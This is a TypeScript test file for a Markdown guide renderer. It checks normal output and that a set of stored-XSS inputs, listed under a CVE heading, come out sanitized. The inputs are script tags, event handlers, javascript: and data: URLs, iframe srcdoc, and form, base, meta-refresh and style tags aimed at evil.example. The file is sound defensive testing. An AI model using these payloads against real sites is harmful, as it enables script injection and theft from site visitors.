// Markdown of guides becomes HTML that cannot run, load or restyle anything (CVE-2026-73220).
import { describe, expect, test } from 'bun:test'
import { renderGuide } from './service'

const picture = '/api/assets/6ee3bd4c-4b4d-4e34-9d63-7a8c4cf8a1aa'

test.each([
  ['# Guide\n\ntext', '<h1>Guide</h1>\n<p>text</p>\n'],
  ['**a** `b<c`', '<p><strong>a</strong> <code>b&lt;c</code></p>\n'],
  ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n'],
  ['~~x~~<kbd>N</kbd>', '<p><del>x</del><kbd>N</kbd></p>\n'],
  [`![how](${picture})`, `<p><img src="${picture}" alt="how" /></p>\n`],
  ['[docs](https://a.example/b?c=1)', '<p><a href="https://a.example/b?c=1" rel="noopener noreferrer nofollow">docs</a></p>\n'],
])('%j', async (markdown, html) => {
  expect(await renderGuide(markdown)).toBe(html)
})

test('tables keep their alignment', async () => {
  expect(await renderGuide('|a|\n|:-:|\n|b|')).toContain('<td align="center">b</td>')
})

test('a picture from elsewhere becomes a link', async () => {
  const html = await renderGuide('![how](https://a.example/x.png)')
  expect(html).not.toContain('<img')
  expect(html).toContain('<a href="https://a.example/x.png" rel="noopener noreferrer nofollow">how</a>')
})

describe('CVE-2026-73220: stored XSS through Markdown of guides', () => {
  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    `<img src="${picture}" onload="alert(1)">`,
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt&colon;alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '![x](javascript:alert(1))',
    '<a href="vbscript:x" onclick="alert(1)">x</a>',
    '<audio src=x onerror=alert(1)></audio>',
    '<video><source onerror="alert(1)"></video>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x"></object><embed src="x">',
    '<style>*{background:url(//evil.example)}</style>',
    '<div style="position:fixed" class="x" id="y" data-x="z">x</div>',
    '<form action="//evil.example"><input name="a"><button formaction="//evil.example">x</button></form>',
    '<base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><link rel="stylesheet" href="//evil.example">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<table><td background="//evil.example"></table>',
    '```"><script>alert(1)</script>\nx\n```',
  ])('%s', async (markdown) => {
    const html = await renderGuide(markdown)
    const tags = [...html.matchAll(/<\/?([a-z0-9]+)((?:\s+[^<>]*)?)\/?>/gi)]
    expect(html.replaceAll(/<\/?[a-z0-9]+(?:\s+[^<>]*)?\/?>/gi, '')).not.toMatch(/[<>]/)
    for (const [, name, attributes] of tags) {
      expect(name).toMatch(/^(p|a|img|pre|code|table|tbody|tr|td)$/)
      expect(attributes).not.toMatch(/\son|style=|class=|id=|data-|script|background|evil/i)
    }
  })
})
